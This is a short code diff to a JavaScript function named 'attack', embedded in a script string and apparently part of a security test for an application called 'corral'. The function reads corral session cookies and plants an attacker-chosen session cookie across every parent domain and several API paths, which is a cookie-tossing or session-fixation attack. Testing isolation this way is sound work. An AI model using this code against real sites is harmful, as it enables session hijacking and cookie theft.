@@ -131,13 +131,17 @@ async function attack(console, other, session) {
     const answer = await fetch(`${console}${new URL(other).pathname}lab`, { credentials });
     return answer.url + await answer.text();
   });
-  history.pushState({}, "", new URL(other).pathname);
-  got["a cookie of corral's is seen"] = /corral_/.test(document.cookie) ? document.cookie : null;
-  const hosts = location.hostname.split(".").map((_, n, parts) => parts.slice(n).join("."));
-  for (const domain of ["", ...hosts.map(host => `; Domain=${host}`)])
-    for (const path of ["/", "/api", "/api/v1", "/api/v1/me", "/users", "/workbenches"])
-      for (const name of ["corral_session", "__Host-corral_session"])
-        document.cookie = `${name}=${session}; Path=${path}${domain}; Max-Age=3600`;
+  got["a cookie of corral's is seen"] = await tried(async () => {
+    history.pushState({}, "", new URL(other).pathname);
+    return /corral_/.test(document.cookie) ? document.cookie : null;
+  });
+  await tried(async () => {
+    const hosts = location.hostname.split(".").map((_, n, parts) => parts.slice(n).join("."));
+    for (const domain of ["", ...hosts.map(host => `; Domain=${host}`)])
+      for (const path of ["/", "/api", "/api/v1", "/api/v1/me", "/users", "/workbenches"])
+        for (const name of ["corral_session", "__Host-corral_session"])
+          document.cookie = `${name}=${session}; Path=${path}${domain}; Max-Age=3600`;
+  });
   return got;
 }
 </script>"""
